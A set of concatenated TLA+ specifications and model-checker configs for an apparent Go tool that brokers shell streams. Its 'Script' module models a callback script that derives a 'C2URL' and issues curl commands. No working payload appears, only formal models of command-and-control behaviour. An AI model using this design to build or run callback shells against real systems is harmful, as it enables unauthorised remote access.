            \/ (\A c \in Calls : pc[c] = "done") =>
                 PrintT(<<"CASE", ToJson([fp |-> fp, srv |-> srv, outcome |-> outcome])>>)
=============================================================================
