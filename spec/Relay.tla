------------------------------ MODULE Relay ------------------------------
(***************************************************************************)
(* lib/simpleshell.CmdShell.Go: relaying the wrapped command's output.     *)
(*                                                                         *)
(* Processes:                                                              *)
(*   Child      writes chunks to its stdout / stderr (kernel pipes of       *)
(*              bounded capacity), then exits                              *)
(*   Copier(s)  io.Copy from the kernel pipe of stream s into one          *)
(*              rendezvous pipe (io.Pipe: a write completes only when the  *)
(*              consumer has read it)                                      *)
(*   Runner     WaitFirst = TRUE  (pinned tree): exec.Cmd.Run, i.e. Start  *)
(*              + Wait; Wait closes the read ends of the kernel pipes as   *)
(*              soon as the child has been reaped                          *)
(*              WaitFirst = FALSE (repaired): Start, wait for both copiers *)
(*              to reach end-of-file, then Wait                            *)
(*   Closer     closes the rendezvous pipe once both copiers are done      *)
(*   Consumer   reads the rendezvous pipe at its own pace                  *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, SequencesExt, TLC, Json

CONSTANTS NOut, NErr,     \* chunks the child writes to stdout / stderr
          PipeCap,        \* kernel pipe capacity in chunks
          WaitFirst,
          ExitCodes,      \* possible exit statuses of the child
          Emit

Streams == {"out", "err"}
Total(s) == IF s = "out" THEN NOut ELSE NErr

VARIABLES
  child,     \* running | exited
  status,    \* exit status chosen by the child
  wrote,     \* per stream: chunks written so far
  kpipe,     \* per stream: chunks in the kernel pipe
  kclosed,   \* the parent's read ends were closed by Wait
  cpc,       \* per stream copier: read | write | done
  chand,     \* per stream: chunk in the copier's hand
  cerr,      \* per stream: the copier ended with an error
  recv,      \* per stream: chunks the consumer received, in order
  eof,       \* the consumer saw end-of-file
  reaped,    \* Wait has returned
  goerr      \* CmdShell.Go returned: none | nil | error

vars == <<child, status, wrote, kpipe, kclosed, cpc, chand, cerr, recv, eof, reaped, goerr>>

Init ==
  /\ child = "running" /\ status \in ExitCodes
  /\ wrote = [s \in Streams |-> 0] /\ kpipe = [s \in Streams |-> <<>>] /\ kclosed = FALSE
  /\ cpc = [s \in Streams |-> "read"] /\ chand = [s \in Streams |-> 0] /\ cerr = [s \in Streams |-> FALSE]
  /\ recv = [s \in Streams |-> <<>>] /\ eof = FALSE /\ reaped = FALSE /\ goerr = "none"

ChildWrite(s) ==
  /\ child = "running" /\ wrote[s] < Total(s) /\ Len(kpipe[s]) < PipeCap
  /\ wrote' = [wrote EXCEPT ![s] = @ + 1]
  /\ kpipe' = [kpipe EXCEPT ![s] = Append(@, wrote[s] + 1)]
  /\ UNCHANGED <<child, status, kclosed, cpc, chand, cerr, recv, eof, reaped, goerr>>

ChildExit ==
  /\ child = "running" /\ \A s \in Streams : wrote[s] = Total(s)
  /\ child' = "exited"
  /\ UNCHANGED <<status, wrote, kpipe, kclosed, cpc, chand, cerr, recv, eof, reaped, goerr>>

(* io.Copy's Read on the kernel pipe *)
CopierRead(s) ==
  /\ cpc[s] = "read"
  /\ IF kclosed
     THEN cpc' = [cpc EXCEPT ![s] = "done"] /\ cerr' = [cerr EXCEPT ![s] = TRUE] /\ UNCHANGED <<kpipe, chand>>   \* "file already closed"
     ELSE IF kpipe[s] # <<>>
     THEN /\ chand' = [chand EXCEPT ![s] = Head(kpipe[s])]
          /\ kpipe' = [kpipe EXCEPT ![s] = Tail(@)]
          /\ cpc' = [cpc EXCEPT ![s] = "write"] /\ UNCHANGED cerr
     ELSE /\ child = "exited"                   \* EOF: every write end is closed
          /\ cpc' = [cpc EXCEPT ![s] = "done"] /\ UNCHANGED <<kpipe, chand, cerr>>
  /\ UNCHANGED <<child, status, wrote, kclosed, recv, eof, reaped, goerr>>

(* io.Copy's Write into the rendezvous pipe = the consumer's Read *)
Deliver(s) ==
  /\ cpc[s] = "write" /\ ~eof
  /\ recv' = [recv EXCEPT ![s] = Append(@, chand[s])]
  /\ chand' = [chand EXCEPT ![s] = 0]
  /\ cpc' = [cpc EXCEPT ![s] = "read"]
  /\ UNCHANGED <<child, status, wrote, kpipe, kclosed, cerr, eof, reaped, goerr>>

(* exec.Cmd.Wait: returns once the child has exited; closes the read ends *)
Wait ==
  /\ child = "exited" /\ ~reaped
  /\ WaitFirst \/ (\A s \in Streams : cpc[s] = "done")
  /\ reaped' = TRUE /\ kclosed' = TRUE
  /\ UNCHANGED <<child, status, wrote, kpipe, cpc, chand, cerr, recv, eof, goerr>>

(* the output pipe is closed once both copies have finished *)
CloseOut ==
  /\ ~eof /\ \A s \in Streams : cpc[s] = "done"
  /\ eof' = TRUE
  /\ UNCHANGED <<child, status, wrote, kpipe, kclosed, cpc, chand, cerr, recv, reaped, goerr>>

GoReturns ==
  /\ goerr = "none" /\ reaped /\ eof
  /\ goerr' = IF status # 0 \/ (\E s \in Streams : cerr[s]) THEN "error" ELSE "nil"
  /\ UNCHANGED <<child, status, wrote, kpipe, kclosed, cpc, chand, cerr, recv, eof, reaped>>

Next == (\E s \in Streams : ChildWrite(s) \/ CopierRead(s) \/ Deliver(s)) \/ ChildExit \/ Wait \/ CloseOut \/ GoReturns
Spec == Init /\ [][Next]_vars
Fair == /\ \A s \in Streams : WF_vars(ChildWrite(s)) /\ WF_vars(CopierRead(s)) /\ WF_vars(Deliver(s))
        /\ WF_vars(ChildExit) /\ WF_vars(Wait) /\ WF_vars(CloseOut) /\ WF_vars(GoReturns)
FairSpec == Spec /\ Fair

Written(s) == [i \in 1..wrote[s] |-> i]
(* C14 *)
PrefixAlways == \A s \in Streams : IsPrefix(recv[s], Written(s))
AllRelayedBeforeEOF == eof => \A s \in Streams : recv[s] = [i \in 1..Total(s) |-> i]
ExitReported == (goerr # "none" /\ status # 0) => goerr = "error"
CleanRunIsNil == (goerr # "none" /\ status = 0) => goerr = "nil"
Ends == <>(goerr # "none")

EmitCase == \/ ~Emit
            \/ (goerr # "none") => PrintT(<<"CASE", ToJson([nout |-> NOut, nerr |-> NErr, status |-> status, goerr |-> goerr, recv |-> recv])>>)
=============================================================================
