-------------------------- MODULE BrokerFullTrace --------------------------
(***************************************************************************)
(* Trace validation for BrokerFull.  Two recordings of one execution of a  *)
(* real, free-running Broker are explained together:                       *)
(*  - the critical sections of Broker.connect, stamped under b.mu by the   *)
(*    guarded observation points (the events of BrokerCtlTrace), and       *)
(*  - everything the broker sent on its operator channel, in the order     *)
(*    received by the only receiver (the harness): `rec`, loaded by the    *)
(*    Items event that starts each trace.                                  *)
(* The sending of a chunk, and a proxy returning with its closing notice,   *)
(* happen outside the lock and are not events: they are silent steps, and  *)
(* TLC places them.  A step is only taken if the transcript it produces is *)
(* still a prefix of what was recorded (Matches), and a trace is only      *)
(* finished when nothing recorded is left unexplained.  Hence an item the  *)
(* specification cannot send at that point - output of a stream that was   *)
(* not admitted, a chunk after its stream's closing notice, a second       *)
(* "gone", a ready notice before both directions are attached, anything    *)
(* of the previous shell after its "gone" - makes the trace unacceptable.  *)
(***************************************************************************)
EXTENDS BrokerFull

Trace == ndJsonDeserialize("trace.ndjson")

CONSTANT Partial   \* TRUE: only a prefix of the transcript is given (used to locate the first item no behaviour explains)

CONSTANT CheckLines   \* TRUE: the lines written to the input streams are part of what must be explained

VARIABLES l, rec,
          recl   \* recorded input side: recl[n] says which stream line n was written to (from the
                 \* harness's writers; lines are numbered in the order entered)
tvars == <<fvars, l, rec, recl>>

TInit == FInit /\ l = 1 /\ rec = <<>> /\ recl = <<>>
Is(e) == l <= Len(Trace) /\ Trace[l].e = e
Consume == l' = l + 1 /\ rec' = rec /\ recl' = recl

(* A recorded item r explains a specification item it: same kind; the       *)
(* attempt when the recording knows it (0: all streams came from one        *)
(* address); direction and ID as far as the notice spells them.             *)
Explains(r, it) ==
  /\ r.t = it.t
  /\ r.a # 0 => r.a = it.a
  /\ r.d # "" => r.d = adir[it.a]
  /\ r.k # "?" => r.k = (IF IsBidir(akey[it.a]) THEN "B" ELSE akey[it.a])
  /\ it.t = "chunk" => r.n = it.n

Matches ==
  /\ Partial \/ Len(och') <= Len(rec)
  /\ \A i \in (Len(och) + 1)..Len(och') : i <= Len(rec) => Explains(rec[i], och'[i])

Agrees(ev) ==
  /\ (key' = "") = (ev.key = "")
  /\ (key' # "" /\ ~IsBidir(key')) => key' = ev.key
  /\ IsBidir(key') = ev.bidir
  /\ (cIn' # None) = ev.inh
  /\ (cOut' # None) = ev.outh
  /\ noMore' = ev.nomore

TItems     == Is("Items") /\ och = <<>> /\ pend = <<>> /\ l' = l + 1 /\ rec' = Trace[l].items /\ recl' = Trace[l].lines /\ UNCHANGED fvars
TArriveUni == Is("ArriveUni") /\ FArriveUni(Trace[l].a, Trace[l].d, Trace[l].k) /\ Consume
TArriveIO  == Is("ArriveIO") /\ FArriveIO(Trace[l].a, Trace[l].b) /\ Consume
TAdmit     == /\ Is("Admit") /\ FAdmit(Trace[l].a)
              /\ (outcome'[Trace[l].a] = "accepted") = Trace[l].accepted
              /\ Agrees(Trace[l]) /\ Matches /\ Consume
TRelease   == Is("Release") /\ FRelease(Trace[l].a) /\ Agrees(Trace[l]) /\ Matches /\ Consume
TShutdown  == Is("Shutdown") /\ FShutdown /\ Consume
SSend      == Send /\ Matches /\ UNCHANGED <<l, rec, recl>>
(* silent *)
SChunk     == \E a \in Att : Chunk(a) /\ Matches /\ UNCHANGED <<l, rec, recl>>
SProxyEnd  == \E a \in Att, w \in {"self", "cancel"}, m \in BOOLEAN :
                 FProxyEnd(a, w, m) /\ Matches /\ UNCHANGED <<l, rec, recl>>
(* silent: an attached input stream takes the next entered line; the writers say which stream got it *)
SLine      == \E a \in Att : /\ Line(a) /\ nline' <= Len(recl)
                              /\ recl[nline'].n = nline' /\ recl[nline'].a = a
                              /\ UNCHANGED <<l, rec, recl>>
LinesDone  == CheckLines => nline = Len(recl)
TReset ==
  /\ Is("Reset") /\ (IF Partial THEN Len(och) >= Len(rec) ELSE Len(och) = Len(rec)) /\ LinesDone /\ l' = l + 1 /\ rec' = <<>> /\ recl' = <<>>
  /\ key' = "" /\ cIn' = None /\ cOut' = None /\ noMore' = FALSE /\ doRet' = FALSE
  /\ pc' = [a \in Att |-> "new"] /\ adir' = [a \in Att |-> "in"] /\ akey' = [a \in Att |-> ""]
  /\ areq' = [a \in Att |-> 0] /\ cancelled' = {} /\ outcome' = [a \in Att |-> "none"] /\ nreq' = 0 /\ hung' = 0
  /\ told' = {} /\ ready' = 0 /\ gone' = 0 /\ gens' = 0 /\ act' = [n |-> "Reset"]
  /\ pend = <<>> /\ pend' = <<>> /\ och' = <<>> /\ sent' = [a \in Att |-> 0] /\ got' = [a \in Att |-> <<>>] /\ nline' = 0

TNext == TItems \/ TArriveUni \/ TArriveIO \/ TAdmit \/ TRelease \/ TShutdown \/ SChunk \/ SProxyEnd \/ SSend \/ SLine \/ TReset
TSpec == TInit /\ [][TNext]_tvars
NotAllConsumed == ~(l > Len(Trace) /\ pend = <<>> /\ LinesDone /\ (IF Partial THEN Len(och) >= Len(rec) ELSE Len(och) = Len(rec)))
=============================================================================
