SPECIFICATION Spec
CONSTANTS
  Att = {1,2,3,4,5,6,7,8}
  Keys = {"", "K1", "K2"}
  MaxReq = 5
  MaxHangups = 2
  PerReqKey = TRUE
  EmitEdges = TRUE
INVARIANTS TypeOK OneShell Consistent IdleIsInitial ExactlyOneGone ReadyAtMostOncePerGen ShutdownWaits SameRequest AtMostOneIO NoMixIOUni
PROPERTIES RefusedWhenRequired SilentOnlyAtShutdown ReArm ReadyOnlyWhenFull FullImpliesReady NoAdmissionAfterShutdown
ACTION_CONSTRAINT Emit
VIEW View
CHECK_DEADLOCK FALSE
