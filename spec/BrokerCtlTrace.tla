-------------------------- MODULE BrokerCtlTrace --------------------------
(***************************************************************************)
(* Trace validation for BrokerCtl: executions of the repository's own      *)
(* tests (run with -tags verif and VERIF_TRACE) and of free-running        *)
(* drivers, recorded at the guarded observation points of Broker.connect.  *)
(* Every critical section is one event carrying the broker's state as      *)
(* seen under b.mu before and after it; the harness turns the raw hook     *)
(* lines into Arrive / Admit / ProxyEnd / Release / Shutdown events        *)
(* ordered by the under-lock stamps.  See BrokerOutTrace for acceptance.   *)
(***************************************************************************)
EXTENDS BrokerCtl

Trace == ndJsonDeserialize("trace.ndjson")

VARIABLE l
tvars == <<vars, l>>

TInit == Init /\ l = 1
Is(e) == l <= Len(Trace) /\ Trace[l].e = e
Consume == l' = l + 1

(* the broker state recorded with an event agrees with the specification's *)
Agrees(ev) ==
  /\ (key' = "") = (ev.key = "")
  /\ (key' # "" /\ ~IsBidir(key')) => key' = ev.key
  /\ IsBidir(key') = ev.bidir
  /\ (cIn' # None) = ev.inh
  /\ (cOut' # None) = ev.outh
  /\ noMore' = ev.nomore

TArriveUni == Is("ArriveUni") /\ ArriveUni(Trace[l].a, Trace[l].d, Trace[l].k) /\ Consume
TArriveIO  == Is("ArriveIO") /\ ArriveIO(Trace[l].a, Trace[l].b) /\ Consume
TAdmit     == /\ Is("Admit") /\ Admit(Trace[l].a)
              /\ (outcome'[Trace[l].a] = "accepted") = Trace[l].accepted
              /\ Agrees(Trace[l]) /\ Consume
TProxyEnd  == Is("ProxyEnd") /\ (\E w \in {"self", "cancel"} : ProxyEnd(Trace[l].a, w)) /\ Consume
TRelease   == Is("Release") /\ Release(Trace[l].a) /\ Agrees(Trace[l]) /\ Consume
TShutdown  == Is("Shutdown") /\ Shutdown /\ Consume
TReset ==
  /\ Is("Reset") /\ Consume
  /\ key' = "" /\ cIn' = None /\ cOut' = None /\ noMore' = FALSE /\ doRet' = FALSE
  /\ pc' = [a \in Att |-> "new"] /\ adir' = [a \in Att |-> "in"] /\ akey' = [a \in Att |-> ""]
  /\ areq' = [a \in Att |-> 0] /\ cancelled' = {} /\ outcome' = [a \in Att |-> "none"] /\ nreq' = 0 /\ hung' = 0
  /\ told' = {} /\ ready' = 0 /\ gone' = 0 /\ gens' = 0 /\ act' = [n |-> "Reset"]

TNext == TArriveUni \/ TArriveIO \/ TAdmit \/ TProxyEnd \/ TRelease \/ TShutdown \/ TReset
TSpec == TInit /\ [][TNext]_tvars
NotAllConsumed == l <= Len(Trace)
=============================================================================
