SPECIFICATION Spec
CONSTANTS
  MaxLines = 3
  MaxShells = 2
INVARIANTS GapFree LostOnlyOnOwnError OneInHand LogMatchesDelivery
CHECK_DEADLOCK FALSE
ACTION_CONSTRAINT Emit
