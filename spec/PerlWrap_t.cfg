SPECIFICATION Spec
CONSTANTS
  MaxLines = 6
  Emit = TRUE
INVARIANTS CleanLaws PipelineLaws
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
