SPECIFICATION Spec
CONSTANTS
  MaxLines = 5
  Emit = TRUE
INVARIANTS CleanLaws PipelineLaws
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
