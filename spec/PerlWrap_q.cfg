SPECIFICATION Spec
CONSTANTS
  MaxLines = 4
  Emit = TRUE
INVARIANTS CleanLaws PipelineLaws
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
