SPECIFICATION FairSpec
CONSTANTS
  NChunks = 4
  QCap = 2
  OchCap = 1
  ReaderSelectsCtx = FALSE
  MayOmitNotice = FALSE
INVARIANTS TypeOK ShownIsPrefix ChannelInOrder ForwardedIsShownPlusChannel NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged
PROPERTIES EndsWhenCancelled NoLeak EndsBySelf
CHECK_DEADLOCK FALSE
