#!/bin/sh
# usage: BrokerInd_apalache.sh <out-dir>   exits 0 iff both obligations are discharged
# N = 4 attempts in flight, 2 callback IDs, up to 4 requests
D=${1:-/tmp/apalache-out}
mkdir -p "$D"
cd "$(dirname "$0")" || exit 2
cat > "$D/BrokerIndInst.tla" <<'EOT'
---- MODULE BrokerIndInst ----
EXTENDS BrokerInd
ConstInit == N = 4 /\ NKeys = 2 /\ MaxReq = 4
====
EOT
cp BrokerInd.tla "$D/"
cd "$D" || exit 2
timeout 900 apalache-mc check --cinit=ConstInit --init=Init --inv=IndInv --length=0 --out-dir="$D/o1" BrokerIndInst.tla > base.log 2>&1 || { tail -5 base.log; exit 1; }
timeout 1800 apalache-mc check --cinit=ConstInit --init=IndInit --inv=IndInv --length=1 --out-dir="$D/o2" BrokerIndInst.tla > step.log 2>&1 || { tail -5 step.log; exit 1; }
grep -h "The outcome is" base.log step.log
