SPECIFICATION Spec
CONSTANTS
  MaxLen = 3
  Emit = TRUE
INVARIANTS OneLiteralWord EndsUnquoted NothingExposed OnlyQuoteEscapes
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
