SPECIFICATION Spec
CONSTANTS
  NChunks = 4
  QCap = 2
  OchCap = 4
  ReaderSelectsCtx = TRUE
  MayOmitNotice = TRUE
INVARIANTS TypeOK ShownIsPrefix ChannelInOrder ForwardedIsShownPlusChannel NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged
CHECK_DEADLOCK FALSE
ACTION_CONSTRAINT Emit
