SPECIFICATION FairSpec
CONSTANTS
  NChunks = 2
  QCap = 1
  OchCap = 1
  Pause = 2
  MaxT = 1
  MaxEvents = 1
  MaxPerTick = 1
  DrainAfterQuit = FALSE
  AfterCancel = "queued"
INVARIANTS DisplayedIsPartOfSent NoticesAlwaysDisplayed
PROPERTIES EndsAfterQuit
CHECK_DEADLOCK FALSE
