SPECIFICATION Spec
CONSTANTS
  Calls = {1, 2, 3}
  PrivateClient = TRUE
  Emit = TRUE
INVARIANTS OwnConfigOnly GlobalsUntouched NoRequestBeforeCheck
CONSTRAINT EmitCase
VIEW View
CHECK_DEADLOCK FALSE
