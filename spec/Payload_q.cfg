SPECIFICATION Spec
CONSTANTS
  MaxEntries = 2
  Emit = TRUE
INVARIANTS OnlyEligible Sorted IneligibleIsInert
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
