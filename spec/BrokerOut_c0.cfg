SPECIFICATION FairSpec
CONSTANTS
  NChunks = 3
  QCap = 2
  OchCap = 0
  ReaderSelectsCtx = TRUE
  MayOmitNotice = FALSE
INVARIANTS TypeOK ShownIsPrefix ChannelInOrder ForwardedIsShownPlusChannel NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged
PROPERTIES EndsWhenCancelled NoLeak EndsBySelf
CHECK_DEADLOCK FALSE
