------------------------------ MODULE Script ------------------------------
(***************************************************************************)
(* The callback script served at /c (internal/hsrv script.go, script.tmpl) *)
(*                                                                         *)
(* Part A  C2URL: where the script calls back to, from what the request    *)
(*         carries.  Precedence: non-empty c2 form/query value, non-empty  *)
(*         c2 header, Host header (IDNA-ASCII), TLS server name plus the   *)
(*         listen port unless that is 443; nothing usable: 400.            *)
(* Part B  the template file as a state machine: re-read on every request; *)
(*         missing, unparsable or failing templates give an error status   *)
(*         and no script at all.                                           *)
(* Part C  IDs: fresh for every script, the same in both curl commands.    *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxSteps, MaxScripts, Emit

(* ---- Part A ---- *)
FormKinds == {"absent", "empty", "value", "post"}       \* post: the value comes in a POST form body
HeaderKinds == {"absent", "empty", "value"}
HostKinds == {"absent", "ascii", "ascii-port", "mixed-case", "punycode", "punycode-port", "ip4-port", "ip6", "ip6-port", "utf8"}
Families == {"ip4", "ip6"}                              \* address family the server listens on
SniKinds == {"absent", "present"}

C2URL(form, header, host, sni, port443) ==
  IF host = "utf8" THEN [ok |-> FALSE, from |-> "rejected"]          \* net/http refuses a non-ASCII Host before any handler runs
  ELSE IF form \in {"value", "post"} THEN [ok |-> TRUE, from |-> "form"]
  ELSE IF header = "value" THEN [ok |-> TRUE, from |-> "header"]
  ELSE IF host # "absent" THEN [ok |-> TRUE, from |-> "host"]
  ELSE IF sni = "present" THEN [ok |-> TRUE, from |-> IF port443 THEN "sni" ELSE "sni-port"]
  ELSE [ok |-> FALSE, from |-> "none"]

(* ---- Part B and C ---- *)
TmplStates == {"unconfigured", "absent", "v1", "v2", "unparsable", "failing"}
Render(t) == IF t = "unconfigured" THEN [ok |-> TRUE, with |-> "default"]
             ELSE IF t \in {"v1", "v2"} THEN [ok |-> TRUE, with |-> t]
             ELSE [ok |-> FALSE, with |-> t]

VARIABLES
  mode,      \* "c2" (part A cases) or "tmpl" (part B/C histories)
  form, header, host, sni, port443,
  fam,       \* listen address family
  tmpl,      \* state of the template file
  issued,    \* number of scripts issued so far (IDs 1..issued, all distinct)
  last,      \* outcome of the last request
  nsteps, act

vars == <<mode, form, header, host, sni, port443, fam, tmpl, issued, last, nsteps, act>>

Init ==
  /\ mode \in {"c2", "tmpl"}
  /\ IF mode = "c2"
     THEN /\ form \in FormKinds /\ header \in HeaderKinds /\ host \in HostKinds /\ sni \in SniKinds /\ port443 \in BOOLEAN /\ fam \in Families
          /\ tmpl = "unconfigured"
     ELSE /\ form = "absent" /\ header = "absent" /\ host = "ascii-port" /\ sni = "absent" /\ port443 = FALSE /\ fam = "ip4"
          /\ tmpl \in TmplStates
  /\ issued = 0 /\ last = [k |-> "none"] /\ nsteps = 0 /\ act = [n |-> "Init"]

Edit(t) ==
  /\ mode = "tmpl" /\ nsteps < MaxSteps
  /\ tmpl # "unconfigured" /\ t # "unconfigured" /\ t # tmpl
  /\ tmpl' = t /\ nsteps' = nsteps + 1 /\ act' = [n |-> "Edit", t |-> t]
  /\ UNCHANGED <<mode, form, header, host, sni, port443, fam, issued, last>>

Request ==
  /\ mode = "tmpl" /\ nsteps < MaxSteps /\ issued < MaxScripts
  /\ nsteps' = nsteps + 1 /\ act' = [n |-> "Request"]
  /\ IF Render(tmpl).ok
     THEN issued' = issued + 1 /\ last' = [k |-> "script", with |-> Render(tmpl).with, id |-> issued + 1]
     ELSE issued' = issued /\ last' = [k |-> "error", with |-> tmpl]
  /\ UNCHANGED <<mode, form, header, host, sni, port443, fam, tmpl>>

Next == Request \/ \E t \in TmplStates : Edit(t)
Spec == Init /\ [][Next]_vars

(* C07 *)
FreshID == last.k = "script" => last.id = issued
NoScriptOnBadTemplate == [][(act'.n = "Request" /\ ~Render(tmpl).ok) => (last'.k = "error" /\ issued' = issued)]_vars
RereadEveryRequest == [][act'.n = "Request" => (last'.k = "script" => last'.with = Render(tmpl).with)]_vars
PrecedenceTotal == mode = "c2" => C2URL(form, header, host, sni, port443).ok \in BOOLEAN

View == <<mode, form, header, host, sni, port443, fam, tmpl, issued, last, nsteps>>
EmitCase ==
  \/ ~Emit
  \/ IF mode = "c2"
     THEN PrintT(<<"CASE", ToJson([form |-> form, header |-> header, host |-> host, sni |-> sni, port443 |-> port443, fam |-> fam,
                                   res |-> C2URL(form, header, host, sni, port443)])>>)
     ELSE TRUE
EmitEdge == \/ ~Emit \/ mode # "tmpl"
            \/ PrintT(<<"EDGE", ToJson([from |-> View, act |-> act', to |-> View'])>>)
=============================================================================
