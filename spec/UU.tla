-------------------------------- MODULE UU --------------------------------
(***************************************************************************)
(* uuencode / uudecode as used by lib/uu (Perl's pack/unpack "u"):         *)
(* definitions over sequences of bytes (0..255), plus a case walker so     *)
(* that TLC enumerates the case space, checks the algebraic laws on it and *)
(* prints one CASE line per case for the conformance driver.               *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS EncLens,     \* input lengths for the encoder cases
          DecBases,    \* input lengths whose encodings are the bases of decoder cases
          Emit,
          Rows         \* rows of the group tables to validate (UUTables)

LineLen == 45

(* ---- encoder ---- *)
EncChar(v) == IF v = 0 THEN 96 ELSE v + 32           \* 6-bit value -> character
EncGroup(a, b, c) ==
  << EncChar(a \div 4),
     EncChar((a % 4) * 16 + (b \div 16)),
     EncChar((b % 16) * 4 + (c \div 64)),
     EncChar(c % 64) >>

At(s, i) == IF i <= Len(s) THEN s[i] ELSE 0          \* zero padding of the last group
RECURSIVE EncGroups(_, _)
EncGroups(s, i) == IF i > Len(s) THEN <<>>
                   ELSE EncGroup(At(s, i), At(s, i + 1), At(s, i + 2)) \o EncGroups(s, i + 3)
EncLine(s) == <<32 + Len(s)>> \o EncGroups(s, 1) \o <<10>>
RECURSIVE Enc(_)
Enc(s) == IF Len(s) = 0 THEN <<>>
          ELSE IF Len(s) <= LineLen THEN EncLine(s)
          ELSE EncLine(SubSeq(s, 1, LineLen)) \o Enc(SubSeq(s, LineLen + 1, Len(s)))

MaxEncodedLen(n) == 63 * (1 + (n \div LineLen))
MaxDecodedLen(n) == 1 + ((n * 16) \div 3)

(* ---- decoder ---- *)
(* Split text at newlines (a final newline yields a last, empty line). *)
RECURSIVE SplitNL(_, _, _)
SplitNL(t, i, cur) ==
  IF i > Len(t) THEN <<cur>>
  ELSE IF t[i] = 10 THEN <<cur>> \o SplitNL(t, i + 1, <<>>)
  ELSE SplitNL(t, i + 1, Append(cur, t[i]))

DecVal(ch) == IF ch = 96 THEN 0 ELSE ch - 32          \* character -> 6-bit value
ValidChar(ch) == ch = 96 \/ (ch >= 32 /\ ch <= 95)

(* Decode one line: [ok, bytes] or [ok = FALSE, off, kind]. *)
DecLine(line0) ==
  LET line == IF Len(line0) > 0 /\ line0[Len(line0)] = 13 THEN SubSeq(line0, 1, Len(line0) - 1) ELSE line0
  IN
  IF Len(line0) = 0 THEN [ok |-> TRUE, bytes |-> <<>>]
  ELSE IF Len(line) = 0 THEN [ok |-> FALSE, off |-> 0, kind |-> "notfour"]  \* a lone CR
  ELSE IF (Len(line) - 1) % 4 # 0 THEN [ok |-> FALSE, off |-> 0, kind |-> "notfour"]
  ELSE IF line[1] # 96 /\ line[1] < 32 THEN [ok |-> FALSE, off |-> 0, kind |-> "lenchar"]
  ELSE
    LET n == IF line[1] = 96 THEN 0 ELSE line[1] - 32
        want == ((n + 2) \div 3) * 4
    IN
    IF Len(line) - 1 # want THEN [ok |-> FALSE, off |-> 0, kind |-> "datalen"]
    ELSE
      LET bad == {i \in 2..Len(line) : ~ValidChar(line[i])} IN
      IF bad # {} THEN [ok |-> FALSE, off |-> (CHOOSE i \in bad : \A j \in bad : i <= j) - 1, kind |-> "char"]
      ELSE
        LET Byte(k) ==     \* k-th decoded byte, 1-based
              LET g == (k - 1) \div 3   r == (k - 1) % 3
                  c0 == DecVal(line[2 + 4 * g])      c1 == DecVal(line[3 + 4 * g])
                  c2 == DecVal(line[4 + 4 * g])      c3 == DecVal(line[5 + 4 * g])
              IN IF r = 0 THEN (c0 * 4 + (c1 \div 16)) % 256
                 ELSE IF r = 1 THEN ((c1 % 16) * 16 + (c2 \div 4)) % 256
                 ELSE ((c2 % 4) * 64 + c3) % 256
        IN [ok |-> TRUE, bytes |-> [k \in 1..n |-> Byte(k)]]

RECURSIVE DecLines(_, _, _)
DecLines(lines, i, acc) ==
  IF i > Len(lines) THEN [ok |-> TRUE, bytes |-> acc]
  ELSE LET d == DecLine(lines[i]) IN
       IF d.ok THEN DecLines(lines, i + 1, acc \o d.bytes)
       ELSE [ok |-> FALSE, line |-> i - 1, off |-> d.off, kind |-> d.kind]
Dec(t) == DecLines(SplitNL(t, 1, <<>>), 1, <<>>)

(* ---- case space ---- *)
Pattern(kind, n) ==
  [i \in 1..n |-> IF kind = "zero" THEN 0 ELSE IF kind = "ff" THEN 255
                  ELSE IF kind = "count" THEN (i * 7 + n) % 256 ELSE (255 - ((i * 13) % 256))]
Kinds == {"zero", "ff", "count", "down"}

Replace(s, i, v) == [s EXCEPT ![i] = v]
RECURSIVE CRLF(_)
CRLF(t) == IF t = <<>> THEN <<>> ELSE (IF Head(t) = 10 THEN <<13, 10>> ELSE <<Head(t)>>) \o CRLF(Tail(t))
RECURSIVE SwapTick(_)
SwapTick(t) == IF t = <<>> THEN <<>> ELSE <<(IF Head(t) = 96 THEN 32 ELSE IF Head(t) = 32 THEN 96 ELSE Head(t))>> \o SwapTick(Tail(t))

(* Mutations of a valid encoding e (non-empty) into decoder inputs. *)
Mutations == {"none", "crlf", "blankfirst", "blankmid", "nonl", "len<32", "lenover", "len+1", "drop1", "add4",
              "lo-first", "hi-first", "lo-last", "hi-last", "lo-mid", "tick", "cr-only", "del"}
LastLineStart(e) ==   \* index of the length character of the last line
  LET nl == {i \in 1..Len(e) - 1 : e[i] = 10} IN IF nl = {} THEN 1 ELSE (CHOOSE i \in nl : \A j \in nl : j <= i) + 1
Mutate(e, m) ==
  LET ls == LastLineStart(e)  last == Len(e) - 1 IN   \* last = index of the last data character (before the newline)
  CASE m = "none" -> e
    [] m = "crlf" -> CRLF(e)
    [] m = "blankfirst" -> <<10>> \o e
    [] m = "blankmid" -> SubSeq(e, 1, ls - 1) \o <<10>> \o SubSeq(e, ls, Len(e))
    [] m = "nonl" -> SubSeq(e, 1, Len(e) - 1)
    [] m = "len<32" -> Replace(e, ls, 31)
    [] m = "lenover" -> Replace(e, ls, 110)
    [] m = "len+1" -> Replace(e, ls, IF e[ls] = 96 THEN 33 ELSE e[ls] + 3)
    [] m = "drop1" -> SubSeq(e, 1, last - 1) \o <<10>>
    [] m = "add4" -> SubSeq(e, 1, last) \o <<33, 33, 33, 33, 10>>
    [] m = "lo-first" -> IF last > ls THEN Replace(e, ls + 1, 31) ELSE e
    [] m = "hi-first" -> IF last > ls THEN Replace(e, ls + 1, 97) ELSE e
    [] m = "lo-last" -> IF last > ls THEN Replace(e, last, 9) ELSE e
    [] m = "hi-last" -> IF last > ls THEN Replace(e, last, 255) ELSE e
    [] m = "lo-mid" -> IF last > ls + 2 THEN Replace(e, ls + 2, 0) ELSE e
    [] m = "tick" -> SwapTick(e)
    [] m = "cr-only" -> e \o <<13, 10>>
